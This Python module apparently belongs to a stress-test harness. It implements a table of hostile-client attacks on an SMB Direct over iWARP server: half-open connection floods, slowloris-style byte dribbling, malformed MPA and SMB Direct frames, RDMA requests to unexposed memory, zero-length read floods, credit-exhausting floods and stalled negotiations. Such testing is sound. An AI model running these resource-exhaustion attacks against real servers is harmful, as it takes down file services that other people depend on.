# SPDX-License-Identifier: MIT
"""What a hostile client can do below SMB2: TCP, MPA, DDP and RDMAP, SMB Direct. Each function is one attack
(lib/ground.py); the table is at the end."""

import contextlib
import errno
import os
import select
import socket
import struct

from lib import smb2
from lib.ground import ENDED, Flood
from lib.iwarp import (
    MPA_ENHANCED, MPA_REQUEST, QN_READ_REQUEST, QN_SEND, READ_REQUEST, SEND, WRITE, enhanced_words, fpdu, mpa_frame, tagged, untagged,
)  # fmt: skip
from lib.smbdirect import negotiate_request

REQUEST = mpa_frame(MPA_REQUEST, MPA_ENHANCED, 2, enhanced_words(16, 16))


def half_open(g):
    """More TCP connections than the pool takes, from many addresses, each silent; those closed are opened again."""
    open_now = []
    while not g.over():
        while len(open_now) < 400 and not g.over():
            s = socket.socket(socket.AF_INET6 if ":" in g.address[0] else socket.AF_INET)
            s.setblocking(False)
            s.bind(g.source(60))
            if s.connect_ex(g.address) not in (0, errno.EINPROGRESS):
                s.close()
                break
            open_now.append(g.hold(s))
            g.did += 1
        ended = set(select.select(open_now, [], [], 0.05)[0])
        for s in ended:
            g.reset(s)
            g.held.remove(s)
        open_now = [s for s in open_now if s not in ended]


def dribble(g, make, data, count):
    """`count` connections that get one byte of `data` each 50 ms."""
    live = []
    while not g.over():
        live += [(c, 0) for c in g.many(min(10, count - len(live)), make)]
        after = []
        for c, at in live:
            with contextlib.suppress(*ENDED):
                sock = getattr(c, "sock", c)
                sock.setblocking(False)
                sock.send(data[at : at + 1])
                after.append((c, (at + 1) % len(data)))
        live = after
        g.did += len(live)
        g.rest(0.05)


def mpa_byte_by_byte(g):
    dribble(g, g.tcp, REQUEST, 60)


def fpdu_byte_by_byte(g):
    frame = fpdu(untagged(SEND, QN_SEND, 1, 0, negotiate_request()), crc=False)
    dribble(g, g.iwarp, frame, 60)


def mpa_garbage(g):
    def once():
        s = g.tcp()
        s.sendall(g.random.randbytes(g.random.randrange(1, 600)))
        if g.did % 8 == 0:
            s.settimeout(0.05)
            s.recv(100)

    g.again(once)


def connect_and_reset(g):
    g.again(lambda: g.reset(g.tcp()))


def unknown_stags(g):
    """RDMA Writes and Read Requests to memory that nobody exposed; each ends its connection with a Terminate."""

    def once():
        w = g.iwarp()
        if g.did % 2:
            w.write(g.random.getrandbits(32), g.random.getrandbits(40), b"x" * 1000)
        else:
            w.request_read(1, 0, 4096, g.random.getrandbits(32), 0)
        w.wait_end(0.2)

    g.again(once)


def pour(g, w, frames):
    """Sends frames(n) for n = 0, 1, ... and reads nothing, as long as the other side takes it."""
    w.sock.setblocking(False)
    n, data = 0, memoryview(b"")
    while not g.over():
        if not data:
            data, n = memoryview(frames(n)), n + 1
        try:
            data = data[w.sock.send(data) :]
            g.did += 1
        except BlockingIOError:
            select.select([], [w.sock], [], 0.1)
        except OSError:
            return False
    return True


def zero_length_reads(g):
    """RDMA Read Requests of no bytes: each must be answered, and none of the answers is read."""

    def once():
        w = g.smbdirect().iwarp
        w.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)

        def frames(n):
            body = struct.pack(">IQIIQ", 0, 0, 0, 0, 0)
            return b"".join(
                fpdu(untagged(READ_REQUEST, QN_READ_REQUEST, n * 64 + i + 1, 0, body), crc=False) for i in range(64)
            )

        pour(g, w, frames)

    g.again(once)


def zero_length_writes(g):
    frames = fpdu(tagged(WRITE, 0, 0, b""), crc=False) * 500
    g.again(lambda: pour(g, g.smbdirect().iwarp, lambda n: frames))


def smbdirect_garbage(g):
    """Bytes that are no SMB Direct message, at its beginning or after it has begun."""

    def once():
        if g.did % 2:
            g.iwarp().send(g.random.randbytes(g.random.randrange(0, 200)))
        else:
            s = g.smbdirect()
            s.send_message(b"x" * 64, offset=g.random.choice((1, 25, 4000)), credits_granted=1)
            s.iwarp.wait_end(0.2)

    g.again(once)


def questions(g):
    """Empty messages that ask for an answer, as many as there are credits."""

    def once():
        flood = Flood(g.smbdirect())
        while not g.over():
            frames = [flood.question() for _ in range(min(200, max(0, flood.t.send_credits - 1)))]
            flood.send(frames)
            g.did += len(frames)
            flood.receive()

    g.again(once)


def questions_unread(g):
    """The same, all its answers unread: more is asked than the window of the answers holds."""

    def once():
        s = g.smbdirect()
        s.iwarp.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        flood = Flood(s)
        flood.owed = 1 << 30
        g.rest(0.05)
        flood.send([flood.question() for _ in range(max(1, s.send_credits))])
        g.rest(0.2)

    g.again(once)


def one_byte_fragments(g):
    """ECHOs of nobody's session, a byte in each fragment."""

    def once():
        c = g.negotiated()
        flood = Flood(c.transport)
        flood.owed = c.transport.grantable()
        while not g.over():
            pdu = c.build(smb2.ECHO, smb2.ECHO_BODY)
            for at in range(len(pdu)):
                while flood.t.send_credits <= 2:
                    flood.receive()
                flood.send([flood.frame(pdu[at : at + 1], remaining=len(pdu) - at - 1)])
                g.did += 1

    g.again(once)


def too_long_messages(g):
    """The first fragment of a message longer than what was agreed, and one that counts wrong."""

    def once():
        c = g.negotiated()
        if g.did % 2:
            c.transport.send_message(b"x" * 100, remaining=0x7FFFFFFF, credits_granted=1)
        else:
            c.transport.send_message(b"x" * 100, remaining=400_000, credits_granted=1)
            c.transport.send_message(b"x" * 100, remaining=5, credits_granted=1)
        c.transport.iwarp.wait_end(0.2)

    g.again(once)


def half_negotiations(g):
    """SMB Direct negotiated and then nothing, or the SMB2 NEGOTIATE but for its last byte: 100 at a time."""

    def make():
        s = g.smbdirect(clients=12)
        if g.random.random() < 0.5:
            c = smb2.Client(s, os.urandom(16))
            pdu = c.build(smb2.NEGOTIATE, c.negotiate_body((0x0302,)))
            s.send_message(pdu[:-1], remaining=1, credits_granted=10)
        return s

    while not g.over():
        g.did += len(g.many(20, make))
        g.drop(keep=400)


ATTACKS = [half_open, mpa_byte_by_byte, mpa_garbage, connect_and_reset, fpdu_byte_by_byte, unknown_stags, zero_length_reads,
           zero_length_writes, smbdirect_garbage, questions, questions_unread, one_byte_fragments, too_long_messages,
           half_negotiations]  # fmt: skip
